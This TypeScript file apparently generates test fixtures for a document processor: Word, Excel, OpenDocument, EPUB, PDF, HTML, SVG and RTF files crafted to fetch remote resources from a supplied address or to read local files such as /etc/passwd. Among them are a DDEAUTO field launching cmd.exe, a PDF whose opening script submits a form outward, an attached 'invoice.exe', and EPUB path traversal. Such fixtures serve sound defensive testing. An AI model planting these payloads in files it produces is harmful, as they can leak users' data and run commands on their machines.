import { PDFDocument } from 'pdf-lib';
import { contentTypes, override, paragraph, relationships, relationType, row } from './hostile-files.ts';
import { wordXml, zip } from './zip-files.ts';

type Link = readonly [type: string, target: string];

const declared = '<?xml version="1.0"?>';
const external = (links: readonly Link[]) =>
  relationships(
    links
      .map(
        ([type, target], at) =>
          `<Relationship Id="x${at}" Type="${relationType(type)}" Target="${target}" TargetMode="External"/>`,
      )
      .join(''),
  );
const rootOf = (target: string) =>
  relationships(`<Relationship Id="r1" Type="${relationType('officeDocument')}" Target="${target}"/>`);

const drawing = (id: string) =>
  `<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="${id}"/></w:drawing></w:r></w:p>`;
const field = (instruction: string) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${instruction}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** A Word document whose pictures, frames, objects and fields refer to `address` and to files of the machine. */
export const linkedWord = (address: string) =>
  zip([
    {
      name: '[Content_Types].xml',
      content: contentTypes(override('/word/document.xml', 'wordprocessingml.document.main')),
    },
    { name: '_rels/.rels', content: rootOf('word/document.xml') },
    {
      name: 'word/_rels/document.xml.rels',
      content: external([
        ['image', `${address}/picture.png`],
        ['image', 'file:///etc/passwd'],
        ['frame', `${address}/frame.html`],
        ['oleObject', `${address}/object.bin`],
        ['hyperlink', `${address}/link`],
      ]),
    },
    {
      name: 'word/document.xml',
      content: wordXml(
        paragraph('Words among links') +
          drawing('x0') +
          drawing('x1') +
          field(`INCLUDETEXT "file:///etc/passwd"`) +
          field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"`),
      ),
    },
  ]);

/** A workbook that refers to cells of another workbook at `address`. */
export const linkedWorkbook = (address: string) =>
  zip([
    {
      name: '[Content_Types].xml',
      content: contentTypes(
        override('/xl/workbook.xml', 'spreadsheetml.sheet.main') +
          override('/xl/worksheets/sheet1.xml', 'spreadsheetml.worksheet') +
          override('/xl/externalLinks/externalLink1.xml', 'spreadsheetml.externalLink'),
      ),
    },
    { name: '_rels/.rels', content: rootOf('xl/workbook.xml') },
    {
      name: 'xl/workbook.xml',
      content: `${declared}<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="S" sheetId="1" r:id="r1"/></sheets><externalReferences><externalReference r:id="r2"/></externalReferences></workbook>`,
    },
    {
      name: 'xl/_rels/workbook.xml.rels',
      content: relationships(
        `<Relationship Id="r1" Type="${relationType('worksheet')}" Target="worksheets/sheet1.xml"/><Relationship Id="r2" Type="${relationType('externalLink')}" Target="externalLinks/externalLink1.xml"/>`,
      ),
    },
    {
      name: 'xl/externalLinks/_rels/externalLink1.xml.rels',
      content: external([['externalLinkPath', `${address}/other.xlsx`]]),
    },
    {
      name: 'xl/externalLinks/externalLink1.xml',
      content: `${declared}<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><externalBook r:id="x0"/></externalLink>`,
    },
    {
      name: 'xl/worksheets/sheet1.xml',
      content: `${declared}<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>${row('1', ['A1', 'Words among links'])}<row r="2"><c r="A2"><f>WEBSERVICE("${address}/cell")</f></c><c r="B2"><f>[1]S!A1</f></c></row></sheetData></worksheet>`,
    },
  ]);

/** An OpenDocument text that refers to a picture, a section and a script at `address`. */
export const linkedOpenText = (address: string) =>
  zip([
    { name: 'mimetype', content: 'application/vnd.oasis.opendocument.text' },
    {
      name: 'META-INF/manifest.xml',
      content: `${declared}<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/></manifest:manifest>`,
    },
    {
      name: 'styles.xml',
      content: '<office:document-styles xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0"/>',
    },
    {
      name: 'content.xml',
      content: `${declared}<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"><office:scripts><office:script xlink:href="${address}/script"/></office:scripts><office:body><office:text><text:p>Words among links</text:p><text:p><draw:frame><draw:image xlink:href="${address}/picture.png"/></draw:frame></text:p><text:section><text:section-source xlink:href="file:///etc/passwd"/></text:section></office:text></office:body></office:document-content>`,
    },
  ]);

const container = `${declared}<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container" version="1.0"><rootfiles><rootfile full-path="content.opf" media-type="application/oebps-package+xml"/></rootfiles></container>`;

/** An e-book with one chapter inside, and others outside: on the machine and at `address`. */
export const linkedBook = (address: string) => {
  const chapters = ['one.xhtml', '../../../../etc/passwd', '/etc/passwd', `${address}/chapter.xhtml`];
  const items = chapters.map(
    (href, at) => `<item id="c${at}" href="${href}" media-type="application/xhtml+xml"/>`,
  );
  const spine = chapters.map((_href, at) => `<itemref idref="c${at}"/>`);
  return zip([
    { name: 'mimetype', content: 'application/epub+zip' },
    { name: 'META-INF/container.xml', content: container },
    {
      name: 'content.opf',
      content: `${declared}<package xmlns="http://www.idpf.org/2007/opf" version="3.0"><metadata/><manifest>${items.join('')}</manifest><spine>${spine.join('')}</spine></package>`,
    },
    {
      name: 'one.xhtml',
      content: `<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Words among links</p><img src="${address}/x.png"/><iframe src="file:///etc/passwd"/></body></html>`,
    },
  ]);
};

/** A PDF with a form that is sent to `address`, and with an attached program. */
export const attachedPdf = async (address: string): Promise<Buffer> => {
  const document = await PDFDocument.create();
  const page = document.addPage([300, 300]);
  page.drawText('Words among links', { x: 20, y: 250, size: 12 });
  const { context } = document;
  page.node.addAnnot(
    context.register(
      context.obj({
        Type: 'Annot',
        Subtype: 'Link',
        Rect: [0, 0, 300, 300],
        A: { S: 'URI', URI: `${address}/opened` },
      }),
    ),
  );
  document.addJavaScript('open', `this.submitForm("${address}/script");`);
  await document.attach(Buffer.from('MZ root:x:0:0'), 'invoice.exe', {
    mimeType: 'application/x-msdownload',
  });
  return Buffer.from(await document.save());
};

export const linkedPage = (address: string) =>
  `<base href="${address}/"><link rel="stylesheet" href="a.css"><script src="a.js"></script><meta http-equiv="refresh" content="0;url=${address}">
  <p>Words among links</p><img src="a.png"><iframe src="file:///etc/passwd"></iframe><object data="${address}/o"></object><video src="${address}/v"></video>`;

export const linkedDrawing = (address: string) =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><style>@import url("${address}/a.css");</style>
  <image href="${address}/a.png"/><image xlink:href="file:///etc/passwd"/><use href="${address}/a.svg#x"/><script href="${address}/a.js"/>
  <foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${address}"/></foreignObject><text>Words among links</text></svg>`;

export const linkedRichText = (address: string) =>
  `{\\rtf1 {\\*\\template ${address}/t.dot}{\\field{\\*\\fldinst INCLUDEPICTURE "${address}/p.png"}}{\\object\\objautlink{\\*\\objdata ${'4d5a'.repeat(100_000)}}}Words among links}`;
